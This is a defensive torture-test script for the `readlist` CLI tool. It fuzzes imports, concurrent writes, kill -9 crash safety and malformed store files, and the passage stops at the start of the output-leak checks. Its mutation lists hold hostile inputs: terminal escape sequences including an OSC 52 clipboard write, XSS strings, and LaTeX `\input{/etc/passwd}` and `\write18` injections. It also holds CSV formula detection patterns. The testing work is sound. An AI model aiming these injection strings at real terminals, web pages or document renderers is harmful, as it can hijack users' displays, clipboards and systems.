"""Torture test of the installed `readlist` command: hostile inputs, stores, outputs and timing.

Runs the `readlist` console script next to `sys.executable` (or `--readlist PATH`) as a
subprocess, always on stores in a new temp dir, and reports per part how many runs it tried
and how many of them

- crashed: a Python traceback on stderr, or an exit code that is not one of `ExitCode`;
- hung: did not finish within the part's timeout (then killed);
- leaked: printed an escape (ESC), a C0 or C1 control (tab and newline aside, CR only in CSV
  line ends) or a bidi control (U+202A-202E, U+2066-2069) on stdout or stderr; wrote `<script`
  in Markdown; wrote a CSV cell that starts with `=`, `+`, `-`, `@`, a tab or a CR;
- changed bytes: a command that failed left the store file (or the FIFO) other than it was.

Parts: concurrency, crash safety (kill -9), fuzzed imports, hostile store files, output leaks,
devices (FIFO and `-o -`), memory. `--quick` is a smoke run (under a minute); the defaults are
the full run (a few minutes on 2 cores). Exit code 0 when nothing was found, 1 when something
was (the table says what), 2 on bad arguments. Standard library only, plus readlist itself for
its exit codes.

    python benchmarks/torture.py --quick
    python benchmarks/torture.py --json torture.json
"""

from __future__ import annotations

import argparse
import csv
import io
import json
import os
import random
import re
import shutil
import signal
import stat
import subprocess
import sys
import tempfile
import threading
import time
import unicodedata
from collections.abc import Callable, Iterable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from readlist.errors import ExitCode

ROOT = Path(__file__).resolve().parent.parent
OUT_OF_RANGE = "well typed, out of range: "
EXIT_CODES = {int(code) for code in ExitCode}
TRACEBACK = "Traceback (most recent call last)"

# What must never reach a terminal or a file: ESC, C0 (but tab, LF, and CR), DEL, C1, bidi.
LEAK = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\x80-\x9f\u202a-\u202e\u2066-\u2069]")
LONE_CR = re.compile("\r(?!\n)")
CSV_FORMULA = tuple("=+-@\t\r")
UNESCAPED_SCRIPT = re.compile(r"(?<!\\)<script", re.IGNORECASE)


# ---------------------------------------------------------------------------------------------
# Running readlist and judging a run


@dataclass
class Run:
    args: list[str]
    rc: int | None  # None: hung (killed after the timeout)
    out: bytes
    err: bytes
    seconds: float

    @property
    def hung(self) -> bool:
        return self.rc is None

    @property
    def crashed(self) -> bool:
        if self.hung:
            return False
        return TRACEBACK in self.err.decode("utf-8", "replace") or self.rc not in EXIT_CODES

    def tail(self) -> str:
        lines = self.err.decode("utf-8", "replace").strip().splitlines()
        return repr(lines[-1][:200]) if lines else "(no stderr)"


class Readlist:
    def __init__(self, command: list[str], timeout: float) -> None:
        self.command = command
        self.timeout = timeout

    def popen(self, db: Path, args: list[str], **kw: Any) -> subprocess.Popen[bytes]:
        return subprocess.Popen(
            [*self.command, "--db", str(db), *args],
            stdin=kw.pop("stdin", subprocess.DEVNULL),
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            env=quiet_env(),
            start_new_session=True,  # a hung run is killed with its group
            **kw,
        )

    def run(self, db: Path, args: list[str], *, timeout: float | None = None, stdin: bytes | None = None) -> Run:
        start = time.monotonic()
        proc = self.popen(db, args, stdin=subprocess.PIPE if stdin is not None else subprocess.DEVNULL)
        try:
            out, err = proc.communicate(stdin, timeout=timeout or self.timeout)
            rc: int | None = proc.returncode
        except subprocess.TimeoutExpired:
            os.killpg(proc.pid, signal.SIGKILL)
            out, err = proc.communicate()
            rc = None
        return Run(["--db", str(db), *args], rc, out, err, time.monotonic() - start)


def quiet_env() -> dict[str, str]:
    """A pipe-side environment: no colours, a fixed width, the user's cache left alone."""
    env = {k: v for k, v in os.environ.items() if k not in ("FORCE_COLOR", "READLIST_DB")}
    env.update(NO_COLOR="1", COLUMNS="120", PYTHONDONTWRITEBYTECODE="1")
    return env


def leaks_in(text: str, *, csv_output: bool = False, markdown: bool = False) -> list[str]:
    """Every way `text` (a command's output) could act on a terminal, browser or spreadsheet."""
    found = [f"{ch!r} at {m.start()}" for m in LEAK.finditer(text) for ch in [m.group()]][:3]
    if LONE_CR.search(text) if csv_output else "\r" in text:  # CSV ends its lines with CRLF
        found.append("a CR")
    if markdown and UNESCAPED_SCRIPT.search(text):  # `\<script` is text in Markdown
        found.append("raw <script")
    if csv_output:
        for row in csv.reader(io.StringIO(text, newline="")):
            found += [f"CSV cell {cell[:30]!r}" for cell in row if cell.startswith(CSV_FORMULA)][:3]
    return found


@dataclass
class Part:
    name: str
    tried: int = 0
    crashes: int = 0
    hangs: int = 0
    leaks: int = 0
    bytes_changed: int = 0
    facts: dict[str, Any] = field(default_factory=dict)
    findings: list[str] = field(default_factory=list)  # what to look at: command and why
    seconds: float = 0.0

    def judge(self, run: Run, *, expect: Iterable[int] | None = None, what: str = "", count: bool = True) -> bool:
        """Count one run (unless it is a re-run); True when it crashed or hung."""
        self.tried += count
        if run.hung:
            self.hangs += 1
            self.note(f"hung: readlist {shown(run.args)} {what}")
            return True
        if run.crashed:
            self.crashes += 1
            self.note(f"crash (exit {run.rc}): readlist {shown(run.args)} {what}: {run.tail()}")
            return True
        if expect is not None and run.rc not in expect:
            self.fact("unexpected exit", 1)
            self.note(f"exit {run.rc}, expected {sorted(expect)}: readlist {shown(run.args)} {what}: {run.tail()}")
        return False

    def check_leaks(self, run: Run, label: str, **kinds: bool) -> None:
        found = leaks_in(run.out.decode("utf-8", "replace"), **kinds)
        found += [f"stderr {f}" for f in leaks_in(run.err.decode("utf-8", "replace"))]
        if found:
            self.leaks += 1
            self.note(f"leak in {label}: {', '.join(found[:4])}")

    def fact(self, name: str, add: int = 1) -> None:
        self.facts[name] = self.facts.get(name, 0) + add

    def note(self, finding: str) -> None:
        self.findings.append(finding)

    @property
    def failures(self) -> int:
        lost = self.facts.get("lost updates", 0) + self.facts.get("torn stores", 0)
        lost += self.facts.get("temp files left", 0) + self.facts.get("bad problem lines", 0)
        lost += self.facts.get("invalid stores", 0) + self.facts.get("nodes replaced", 0)
        lost += self.facts.get("accepted", 0) + self.facts.get("unexpected exit", 0)
        lost += self.facts.get("wrong output", 0) + self.facts.get("entries storing controls", 0)
        return self.crashes + self.hangs + self.leaks + self.bytes_changed + lost


def strings_in(value: Any) -> Iterable[str]:
    """Every string in a JSON document, keys too."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, item in value.items():
            yield key
            yield from strings_in(item)
    elif isinstance(value, list):
        for item in value:
            yield from strings_in(item)


def shown(args: list[str]) -> str:
    return " ".join(a if re.fullmatch(r"[\w./:=,+@-]+", a) else repr(a) for a in args)[:300]


def read_bytes(path: Path) -> bytes | None:
    try:
        return path.read_bytes()
    except FileNotFoundError:
        return None


def entries_of(rl: Readlist, db: Path) -> list[dict[str, Any]]:
    run = rl.run(db, ["export", "--format", "json"])
    if run.rc != 0:
        raise RuntimeError(f"cannot read {db}: {run.tail()}")
    return list(json.loads(run.out))


# ---------------------------------------------------------------------------------------------
# Inputs


def digest(topic: str, day: str, papers: Iterable[tuple[str, str, str, str | None]]) -> str:
    """A digest in the blog-text format (see benchmarks/digestgen.py)."""
    parts = [f"{topic}\n\n{day} 更新\n\n"]
    for title, authors, abstract, comment in papers:
        parts.append(f"{title}\n\nAuthors:{authors}\n\n{abstract}\n")
        parts.append(f"PDF {comment}\n\n\n" if comment else "\n\n")
    return "".join(parts)


def generated_papers(prefix: str, n: int) -> list[tuple[str, str, str, str | None]]:
    return [
        (
            f"{prefix} study number {i} of sparse attention",
            f"Ann Writer{i}, Bo Reader, Cy Third",
            f"We study case {i} of {prefix}. The method learns sparse maps and improves accuracy.",
            "Accepted by CVPR 2024" if i % 3 == 0 else None,
        )
        for i in range(n)
    ]


BIB_SEED = r"""@article{lindqvist2024probing,
  title = {Probing {ViT} Features with $\sqrt{d}$ Scaling and \emph{Sparse} Maps},
  author = {Lindqvist, Ebba and M{\"u}ller, J{\"o}rg and others},
  journal = {Journal of Imaginary Vision},
  year = {2024},
  url = {https://example.org/paper?id=1%2F2},
  note = {See \href{https://example.org}{the site} and \url{https://example.org/x}},
  abstract = {We show that $O(n \log n)$ attention with \textbf{bold} claims \& 50\% less memory.}
}

@inproceedings{okafor2023dense,
  title = "Dense Prediction with {Swin} Transformers",
  author = "Chidi Okafor and Li Wei",
  booktitle = {Proceedings of CVPR},
  year = 2023,
  pages = {1--10},
}
"""

LATEX_BITS = [
    r"\href{http://x.example}{t}", r"\href{", r"\href", r"\textcolor[rgb]{1,0,0}{x}", r"\textcolor",
    r"\colorbox{red}", r"\colorbox", r"\sqrt", r"\footnote{x}", r"\date", r"\title", r"\author",
    r"\begin{array}{cc} a & b", r"\url", r"\input{/etc/passwd}", r"\write18{ls}", r"\def\x{y}",
    r"$\frac{1}{", r"\\\\", "%", r"\verb|x", r"\end{document}", r"\begin{itemize}", r"\"", "~",
    r"\csname x\endcsname", "$$", r"\mathcal{", "{", "}",
]  # fmt: skip
ESCAPES = [
    b"\x1b[2J", b"\x1b]0;pwned\x07", b"\x1b]52;c;ZXZpbA==\x07", b"\x1b[31m", "\u009b31m".encode(),
    "\u009d0;x\u009c".encode(), b"\x1bP+q\x1b\\", b"\x07", b"\x08\x08",
]  # fmt: skip
BIDI = ["\u202e", "\u2066", "\u202a", "\u2069", "\u202d"]
MARKUP = [
    b"&#x1b;", b"&#0;", b"&#x202e;", b"&#27;[2J", b'<!DOCTYPE x [<!ENTITY a "aaaa">]>', b"<![CDATA[",
    b"<script>alert(1)</script>", b"<img src=x onerror=alert(1)>", b"</article>", b"<div",
    b"\\u001b[2J", b"\\ud800", b'{"title": ', b"[[[[[[", b"---\n", b"# ", b"**Authors:**", b"|a|b|",
    b"Authors:", b"PDF ", b"2024-13-45 \xe6\x9b\xb4\xe6\x96\xb0", b"Subject: ", b"\\\\\narXiv:2401.00001\n",
]  # fmt: skip
INVALID_UTF8 = [b"\xff\xfe", b"\xc3", b"\xed\xa0\x80", b"\xc0\xaf", b"\xf4\x90\x80\x80", b"\x80\x80\x80"]


class Mutator:
    """Byte-level mutations of a seed file, each one a kind of damage seen in the wild."""

    def __init__(self, rng: random.Random, big: bool) -> None:
        self.rng = rng
        self.big = big  # allow megabyte lines and deep nesting
        self.kinds: list[Callable[[bytes], bytes]] = [
            self.flip, self.truncate, self.controls, self.escapes, self.bidi, self.huge_line,
            self.braces, self.latex, self.invalid_utf8, self.nuls, self.line_ends, self.markup,
            self.repeat, self.drop_lines,
        ]  # fmt: skip

    def mutate(self, data: bytes, others: list[bytes]) -> tuple[bytes, list[str]]:
        names = []
        for _ in range(self.rng.choice([1, 1, 2, 2, 3, 4])):
            if self.rng.random() < 0.05 and others:
                data, names = self.splice(data, self.rng.choice(others)), [*names, "splice"]
                continue
            kind = self.rng.choice(self.kinds)
            data, names = kind(data), [*names, kind.__name__]
        return data, names

    def at(self, data: bytes, insert: bytes) -> bytes:
        i = self.rng.randrange(len(data) + 1)
        return data[:i] + insert + data[i:]

    def flip(self, data: bytes) -> bytes:
        buf = bytearray(data)
        for _ in range(self.rng.randint(1, 20)):
            if buf:
                buf[self.rng.randrange(len(buf))] ^= 1 << self.rng.randrange(8)
        return bytes(buf)

    def truncate(self, data: bytes) -> bytes:
        return data[: self.rng.randrange(len(data) + 1)]

    def controls(self, data: bytes) -> bytes:
        for _ in range(self.rng.randint(1, 10)):
            data = self.at(data, bytes([self.rng.choice([*range(32), 127])]))
        return data

    def escapes(self, data: bytes) -> bytes:
        for _ in range(self.rng.randint(1, 5)):
            data = self.at(data, self.rng.choice(ESCAPES))
        return data

    def bidi(self, data: bytes) -> bytes:
        for _ in range(self.rng.randint(1, 5)):
            data = self.at(data, self.rng.choice(BIDI).encode())
        return data

    def huge_line(self, data: bytes) -> bytes:
        size = self.rng.choice([70_000, 300_000, 2_000_000 if self.big else 300_000])
        word = self.rng.choice([b"a", b"Ann Lee, ", b"x y ", b"\xe6\x9b\xb4", b"{", b"\\"])
        return self.at(data, (word * (size // len(word) + 1))[:size])

    def braces(self, data: bytes) -> bytes:
        depth = self.rng.choice([50, 250, 1000, 20_000 if self.big else 2_000])
        opener, closer = self.rng.choice([(b"{", b"}"), (b"[", b"]"), (b"<b>", b"</b>"), (b"(", b")")])
        close = self.rng.random() < 0.5
        return self.at(data, opener * depth + b"x" + (closer * depth if close else b""))

    def latex(self, data: bytes) -> bytes:
        for _ in range(self.rng.randint(1, 6)):
            data = self.at(data, self.rng.choice(LATEX_BITS).encode())
        return data

    def invalid_utf8(self, data: bytes) -> bytes:
        for _ in range(self.rng.randint(1, 4)):
            data = self.at(data, self.rng.choice(INVALID_UTF8))
        return data

    def nuls(self, data: bytes) -> bytes:
        return self.at(data, b"\x00" * self.rng.choice([1, 2, 64, 4096]))

    def line_ends(self, data: bytes) -> bytes:
        lines = data.split(b"\n")
        return b"".join(line + self.rng.choice([b"\n", b"\r\n", b"\r", b"\n\r"]) for line in lines)

    def markup(self, data: bytes) -> bytes:
        for _ in range(self.rng.randint(1, 4)):
            data = self.at(data, self.rng.choice(MARKUP))
        return data

    def repeat(self, data: bytes) -> bytes:
        if not data:
            return data
        i = self.rng.randrange(len(data))
        piece = data[i : i + self.rng.randint(1, 2000)]
        return data[:i] + piece * self.rng.randint(2, 50) + data[i:]

    def drop_lines(self, data: bytes) -> bytes:
        lines = data.split(b"\n")
        return b"\n".join(line for line in lines if self.rng.random() > 0.2)

    def splice(self, data: bytes, other: bytes) -> bytes:
        return data[: self.rng.randrange(len(data) + 1)] + other[self.rng.randrange(len(other) + 1) :]


# The format each seed is, for `--format` runs; sniffing gets the other half of the batches.
SEED_FORMATS = {
    ".txt": "blog-text", ".md": "blog-markdown", ".html": "saved-page", ".bib": "bibtex",
    ".eml": "arxiv-listing", ".xml": "arxiv-feed", ".jsonl": "paper-jsonl",
}  # fmt: skip


def seed_files(work: Path) -> list[tuple[Path, str]]:
    """The project's own examples and test data, plus a .bib, each with its format."""
    seeds = []
    for path in sorted([*(ROOT / "examples").iterdir(), *(ROOT / "tests" / "data").iterdir()]):
        fmt = SEED_FORMATS.get(path.suffix)
        if path.name.startswith("cv-arxiv-daily"):
            fmt = "paper-table"
        elif path.name == "arxiv-listing.txt":
            fmt = "arxiv-listing"
        if fmt:
            seeds.append((path, fmt))
    bib = work / "seed.bib"
    bib.write_text(BIB_SEED, encoding="utf-8")
    seeds.append((bib, "bibtex"))
    return seeds


# ---------------------------------------------------------------------------------------------
# The parts


class Torture:
    def __init__(self, args: argparse.Namespace, work: Path) -> None:
        self.args = args
        self.work = work
        self.rl = Readlist(args.readlist, args.timeout)
        self.rng = random.Random(args.seed)
        self.parts: list[Part] = []
        self.base = work / "base.json"  # the examples imported, tagged, noted, one removed

    def say(self, msg: str) -> None:
        print(msg, file=sys.stderr, flush=True)

    def store_copy(self, name: str) -> Path:
        db = self.work / name
        shutil.copyfile(self.base, db)
        return db

    def parallel(self, jobs: Iterable[Callable[[], None]]) -> None:
        with ThreadPoolExecutor(self.args.jobs) as pool:
            for future in [pool.submit(job) for job in jobs]:
                future.result()

    def make_base(self) -> list[str]:
        run = self.rl.run(self.base, ["import", str(ROOT / "examples")])
        if run.rc != 0:
            raise SystemExit(f"torture: cannot import the examples into a new store: {run.tail()}")
        keys = [e["key"] for e in entries_of(self.rl, self.base)]
        for args in (["tag", keys[0], keys[1], "-t", "base"], ["note", keys[0], "a note"],
                     ["status", keys[1], "queued", "--priority", "2"], ["rm", keys[-1], "--yes"]):  # fmt: skip
            if self.rl.run(self.base, args).rc != 0:
                raise SystemExit(f"torture: readlist {shown(args)} failed on a new store")
        return keys[:-1]

    def part(self, name: str, body: Callable[[Part], None]) -> None:
        part = Part(name)
        self.say(f"== {name}")
        start = time.monotonic()
        body(part)
        part.seconds = time.monotonic() - start
        self.parts.append(part)
        self.say(f"   {part.tried} tried, {part.failures} findings, {part.seconds:.0f} s")

    # 1 ------------------------------------------------------------------------------------
    def concurrency(self, part: Part) -> None:
        """N writers started at once on one store; every change that said so must be there."""
        db = self.store_copy("concurrent.json")
        keys = self.keys
        commands = []
        for i in range(self.args.writers):
            key = keys[i % len(keys)]
            commands.append(
                [
                    ["tag", key, "-t", f"writer-{i}"],
                    ["note", key, f"writer note {i}"],
                    ["status", key, ["queued", "reading", "read"][i % 3]],
                    ["add", "--title", f"Concurrent paper number {i}", "--author", f"Ann Writer{i}"],
                ][i % 4]
            )
        start = time.monotonic()
        procs = [self.rl.popen(db, c) for c in commands]
        runs = []
        for proc, command in zip(procs, commands, strict=True):
            try:
                out, err = proc.communicate(timeout=max(1.0, self.args.timeout * 4 - (time.monotonic() - start)))
                rc: int | None = proc.returncode
            except subprocess.TimeoutExpired:
                os.killpg(proc.pid, signal.SIGKILL)
                out, err = proc.communicate()
                rc = None
            runs.append(Run(["--db", str(db), *command], rc, out, err, 0.0))
        part.facts["wall seconds"] = round(time.monotonic() - start, 1)
        for run in runs:  # a writer that waits for the lock over 60 s gives up: exit 5, nothing lost
            part.judge(run, expect={0, ExitCode.STORE})
            if run.rc == ExitCode.STORE:
                part.fact("gave up waiting (exit 5)")
        entries = {e["key"]: e for e in entries_of(self.rl, db)}
        for command, run in zip(commands, runs, strict=True):
            if run.rc != 0:
                continue
            if not self.present(command, entries):
                part.fact("lost updates")
                part.note(f"lost: readlist {shown(command)} exited 0 but its change is not in the store")
        part.facts.setdefault("lost updates", 0)

    @staticmethod
    def present(command: list[str], entries: dict[str, dict[str, Any]]) -> bool:
        """Whether the change a writer reported is in the store."""
        if command[0] == "add":
            return any(e["title"] == command[2] for e in entries.values())
        entry = entries.get(command[1], {})
        if command[0] == "tag":
            return command[3] in entry.get("tags", [])
        if command[0] == "note":
            return any(n["text"] == command[2] for n in entry.get("notes", []))
        return any(command[2] in item["text"] for item in entry.get("log", []))  # status

    # 2 ------------------------------------------------------------------------------------
    def crash_safety(self, part: Part) -> None:
        """kill -9 of import/tag at random moments: the store is the old or the new one."""
        db = self.work / "killed.json"
        big = self.work / "killed-base.txt"
        big.write_text(digest("Kill base", "2024-02-01", generated_papers("Base", self.args.kill_base)), "utf-8")
        shutil.copyfile(self.base, db)
        if self.rl.run(db, ["import", str(big)]).rc != 0:
            raise SystemExit("torture: cannot import the crash-safety base digest")
        key = self.keys[2]
        rounds = []
        for i in range(self.args.kills):
            if i % 2:
                path = self.work / "kill-digests" / f"round-{i}.txt"
                path.parent.mkdir(exist_ok=True)
                path.write_text(digest("Kill", "2024-03-01", generated_papers(f"Round{i}", 5)), "utf-8")
                rounds.append(["import", str(path)])
            else:
                rounds.append(["tag", key, "-t", f"kill-{i}"])
        # how long an uncut run takes, to spread the kills over it
        spare = self.work / "killed-timing.json"
        shutil.copyfile(db, spare)
        durations = {kind: self.rl.run(spare, c).seconds for kind, c in (("import", rounds[1]), ("tag", rounds[0]))}
        spare.unlink()
        part.facts["uncut seconds"] = {k: round(v, 2) for k, v in durations.items()}
        temp_glob = f".{db.name}.*.tmp"
        for i, command in enumerate(rounds):
            before = db.read_bytes()
            proc = self.rl.popen(db, command)
            time.sleep(self.rng.uniform(0.0, durations[command[0]] * 1.1))
            os.killpg(proc.pid, signal.SIGKILL)
            proc.communicate()
            part.tried += 1
            part.fact("killed" if proc.returncode == -signal.SIGKILL else "finished before the kill")
            after = db.read_bytes()
            leftovers = len(list(self.work.glob(temp_glob)))
            if leftovers:
                part.fact("kills that left a temp file")
            try:
                data = json.loads(after)
            except ValueError:
                part.fact("torn stores")
                part.note(f"torn: round {i}, readlist {shown(command)} killed; the store is not JSON")
                db.write_bytes(before)  # go on from a store that loads
                continue
            if after == before:
                part.fact("old version")
                continue
            new = json.dumps(data, ensure_ascii=False)
            expected = f"kill-{i}" if command[0] == "tag" else f"Round{i} study number 4 "
            if expected in new and (command[0] == "tag" or f"Round{i} study number 0 " in new):
                part.fact("new version")
            else:
                part.fact("torn stores")
                part.note(f"torn: round {i}, readlist {shown(command)} killed; neither the old nor the new store")
            check = self.rl.run(db, ["list", "--limit", "1"])
            if part.judge(check, count=False) or check.rc != 0:
                part.fact("invalid stores")
                part.note(f"after round {i} the store does not load: {check.tail()}")
        part.tried += 1
        final = self.rl.run(db, ["tag", key, "-t", "after-the-kills"])
        part.judge(final, expect={0}, what="(the write after the last kill)")
        part.facts["temp files left"] = len(list(self.work.glob(temp_glob)))

    # 3 ------------------------------------------------------------------------------------
    def fuzz(self, part: Part) -> None:
        """Mutated digests of every format through `import`, in batches, each into a new store."""
        seeds = seed_files(self.work)
        datas = [path.read_bytes() for path, _ in seeds]
        mutator = Mutator(self.rng, big=not self.args.quick)
        root = self.work / "fuzz"
        batches: list[tuple[Path, str | None, dict[str, list[str]]]] = []
        count, size = self.args.fuzz, self.args.batch
        for b in range(0, count, size):
            folder = root / f"batch-{b // size:04d}"
            folder.mkdir(parents=True)
            fmt = None  # every other batch is read as one format, whatever the sniffing says
            if (b // size) % 2:
                fmt = seeds[self.rng.randrange(len(seeds))][1]
            made: dict[str, list[str]] = {}
            for n in range(min(size, count - b)):
                idx = (
                    self.rng.randrange(len(seeds))
                    if fmt is None
                    else self.rng.choice([i for i, s in enumerate(seeds) if s[1] == fmt])
                )
                data, kinds = mutator.mutate(datas[idx], datas)
                path = folder / f"{n:03d}-{seeds[idx][0].stem[:20]}{seeds[idx][0].suffix}"
                path.write_bytes(data)
                made[path.name] = kinds
            batches.append((folder, fmt, made))
        part.facts["seed files"] = len(seeds)
        part.facts["formats"] = sorted({fmt for _, fmt in seeds})
        part.facts["bytes fuzzed (MB)"] = round(
            sum(p.stat().st_size for p in root.rglob("*") if p.is_file()) / 2**20, 1
        )
        lock = threading.Lock()

        def one(folder: Path, fmt: str | None, made: dict[str, list[str]]) -> None:
            db = folder.with_suffix(".json")
            extra = ["--format", fmt] if fmt else []
            run = self.rl.run(db, ["import", "--json", *extra, str(folder)], timeout=self.args.timeout * 4)
            with lock:
                part.tried += len(made)
                part.fact("imports")
            if run.hung or run.crashed or run.rc not in (0, 1):
                with lock:
                    part.fact("batches retried file by file")
                culprits = 0
                for name in made:  # find the file(s) at fault, one import each
                    alone = self.rl.run(
                        db.with_name(db.stem + "-alone.json"), ["import", "--json", *extra, str(folder / name)]
                    )
                    with lock:
                        if part.judge(alone, expect={0, 1}, what=f"(mutations: {', '.join(made[name])})", count=False):
                            culprits += 1
                            self.keep_failure(folder / name)
                if not culprits:  # only the batch as a whole fails
                    with lock:
                        part.judge(run, expect={0, 1}, what="(the whole batch)", count=False)
                return
            with lock:
                part.check_leaks(Run(run.args, run.rc, b"", run.err, 0), f"import {folder.name}")
            try:
                report = json.loads(run.out)
            except ValueError:
                with lock:
                    part.fact("wrong output")
                    part.note(f"import --json printed no JSON: readlist {shown(run.args)}")
                return
            with lock:
                part.fact("problems reported", len(report["problems"]))
                part.fact("entries imported", len(report["new"]))
                for problem in report["problems"]:
                    if not problem.get("file") or "\n" in problem["message"] or "\r" in problem["message"]:
                        part.fact("bad problem lines")
                        part.note(f"problem not on one line or without a file: {problem!r:.200}")
            check = self.rl.run(db, ["export", "--format", "json"]) if db.exists() else None
            with lock:
                if check is not None and (part.judge(check, count=False) or check.rc != 0):
                    part.fact("invalid stores")
                    part.note(f"after readlist {shown(run.args)} the store does not export: {check.tail()}")

        self.parallel([lambda f=f, m=m, fmt=fmt: one(f, fmt, m) for f, fmt, m in batches])

    def keep_failure(self, path: Path) -> None:
        keep = self.work / "failures"
        keep.mkdir(exist_ok=True)
        shutil.copyfile(path, keep / f"{path.parent.name}-{path.name}")

    # 4 ------------------------------------------------------------------------------------
    def hostile_stores(self, part: Part) -> None:
        """Malformed and wrong-typed store files: exit 5, the file's bytes as they were."""
        variants = list(self.store_variants())
        if self.args.quick:
            variants = self.rng.sample(variants, min(16, len(variants)))
        part.facts["store variants"] = len(variants)
        lock = threading.Lock()
        key = self.keys[0]

        def one(n: int, label: str, payload: bytes) -> None:
            db = self.work / "stores" / f"{n:04d}.json"
            db.write_bytes(payload)
            commands = [["list"], ["tag", key, "-t", "hostile"]]
            if n % 3 == 0 or label.startswith(OUT_OF_RANGE):  # and for a third of them, two more
                commands += [["show", key], ["import", str(ROOT / "examples")]]
            valid = label.startswith(OUT_OF_RANGE)
            for args in commands:
                run = self.rl.run(db, args)
                after = read_bytes(db)
                with lock:
                    part.judge(run, expect={ExitCode.STORE, 0} if valid else {ExitCode.STORE}, what=f"(store: {label})")
                    if run.rc == 0:
                        part.fact("out-of-range values read" if valid else "accepted")
                    if run.rc != 0 and after != payload:
                        part.bytes_changed += 1
                        part.note(f"bytes changed: readlist {shown(run.args)} (store: {label}) exited {run.rc}")
                    part.check_leaks(run, f"readlist {shown(args)} on store {label}")
                if after != payload:
                    db.write_bytes(payload)

        (self.work / "stores").mkdir()
        self.parallel([lambda n=n, lb=lb, p=p: one(n, lb, p) for n, (lb, p) in enumerate(variants)])

    def store_variants(self) -> Iterable[tuple[str, bytes]]:
        good = json.loads(self.base.read_bytes())
        dump = lambda d: json.dumps(d, ensure_ascii=False).encode()  # noqa: E731
        raw = self.base.read_bytes()
        for label, text in [
            ("null", b"null"), ("a list", b"[]"), ("a string", b'"x"'),
            ("a number", b"1"), ("an empty object", b"{}"), ("NUL bytes", b"\x00" * 64),
            ("invalid UTF-8", raw[:100] + b"\xff\xfe" + raw[100:]), ("a BOM", b"\xef\xbb\xbf" + raw),
            ("deep nesting", b"[" * 100_000 + b"]" * 100_000),
            ("deep object", b'{"a":' * 50_000 + b"1" + b"}" * 50_000),
            ("NaN", re.sub(rb'"schema": ?1', b'"schema":NaN', raw)),
            ("a number with 5000 digits", re.sub(rb'"schema": ?1', b'"schema":' + b"9" * 5000, raw)),
        ]:  # fmt: skip
            yield label, text
        for cut in sorted(self.rng.sample(range(1, len(raw)), 12)):
            yield f"truncated at {cut}", raw[:cut]
        for n in range(8):
            buf = bytearray(raw)
            for _ in range(3):
                buf[self.rng.randrange(len(buf))] = self.rng.randrange(256)
            try:
                json.loads(bytes(buf))
            except ValueError:
                yield f"bytes flipped ({n})", bytes(buf)
        shapes: list[tuple[str, Any]] = [
            ("meta a list", {**good, "meta": []}), ("meta a string", {**good, "meta": "v1"}),
            ("meta without 1", {**good, "meta": {}}), ("meta 1 a list", {**good, "meta": {"1": []}}),
            ("no meta", {"entries": good["entries"]}), ("no entries", {"meta": good["meta"]}),
            ("entries a list", {**good, "entries": []}), ("entries a string", {**good, "entries": "x"}),
            ("entries null", {**good, "entries": None}), ("removed a list", {**good, "removed": []}),
            ("removed a number", {**good, "removed": 5}),
            ("entry id not numeric", {**good, "entries": {"abc": next(iter(good["entries"].values()))}}),
            ("entry a list", {**good, "entries": {"1": []}}), ("entry a string", {**good, "entries": {"1": "x"}}),
            ("removed document a list", {**good, "removed": {"1": []}}),
            ("removed identity a number", {**good, "removed": {"1": {"identity": 5, "arxiv": None}}}),
            ("removed arxiv a list", {**good, "removed": {"1": {"identity": "x", "arxiv": []}}}),
        ]  # fmt: skip
        for version in ["1", 1.5, -1, 0, True, None, [], {}, 10**21, 999999999999999999999, 2, 10**300, 1e308]:
            meta = {**good["meta"], "1": {**good["meta"]["1"], "schema": version}}
            shapes.append((f"schema {version!r:.30}", {**good, "meta": meta}))
        for label, doc in shapes:
            yield label, dump(doc)
        # every entry field with values of the wrong type
        ids = list(good["entries"])
        doc_id = next(i for i in ids if good["entries"][i]["notes"])  # the entry with a note, a tag
        entry = good["entries"][doc_id]
        for name, value in self.wrong_values(entry):
            broken = json.loads(json.dumps(good))
            broken["entries"][doc_id][name] = value
            yield f"{name}: {json.dumps(value)[:40]}", dump(broken)
        for name in entry:
            broken = json.loads(json.dumps(good))
            del broken["entries"][doc_id][name]
            if name in ("key", "title"):  # the others read as empty when missing
                yield f"no {name}", dump(broken)
        # well typed but out of range: read as they are (a finding only if something crashes)
        for name, value in (("priority", 99), ("year", -5), ("added", "yesterday"), ("status", "")):
            broken = json.loads(json.dumps(good))
            broken["entries"][doc_id][name] = value
            yield f"{OUT_OF_RANGE}{name}: {json.dumps(value)}", dump(broken)
        broken = json.loads(json.dumps(good))
        broken["entries"][doc_id]["sightings"][0]["date"] = "not a date"
        yield f"{OUT_OF_RANGE}sighting date: not a date", dump(broken)

    @staticmethod
    def wrong_values(entry: dict[str, Any]) -> Iterable[tuple[str, Any]]:
        """(field, value) with a value the field's type does not allow; null (and a missing field)
        reads as empty for every field but `key` and `title`, as the store has always done."""
        strs, opt_strs = ("key", "title", "abstract", "status", "added"), ("comment", "venue", "url", "arxiv")
        str_lists = ("authors", "categories", "tags", "edited")
        everything: list[Any] = [5, 1.5, "abc", [1, 2], {"a": 1}, None, True, ["a", 1], [{}], 10**30, [["x"]]]
        for name in entry:
            if name in strs:
                allowed: Callable[[Any], bool] = lambda v: isinstance(v, str)  # noqa: E731
            elif name in opt_strs or name == "primary_class":
                allowed = lambda v: v is None or isinstance(v, str)  # noqa: E731
            elif name in str_lists:
                allowed = lambda v: isinstance(v, list) and all(isinstance(x, str) for x in v)  # noqa: E731
            elif name in ("year", "priority"):
                allowed = lambda v: v is None or (type(v) is int and v < 10**6)  # noqa: E731
            elif name in ("listed", "extra"):
                allowed = lambda v: isinstance(v, dict)  # noqa: E731
            else:  # lists of objects: sightings, notes, log
                allowed = lambda v: isinstance(v, list) and all(isinstance(x, dict) for x in v) and v != [{}]  # noqa: E731
            for value in everything:
                if not allowed(value) and (value is not None or name in ("key", "title")):
                    yield name, value
        yield "status", "bogus"
        yield "notes", [{"at": 5, "text": "x"}]
        yield "notes", [{"at": "2024-01-01T00:00:00+00:00", "text": ["x"]}]
        yield "log", [{"at": "2024-01-01T00:00:00+00:00", "kind": 5, "text": "x"}]
        yield "sightings", [{"file": 5, "topic": "t", "date": "2024-01-01", "line": 1}]
        yield "sightings", [{"file": "f", "topic": "t", "date": 20240101, "line": "1"}]

    # 5 ------------------------------------------------------------------------------------
    def output_leaks(self, part: Part) -> None:
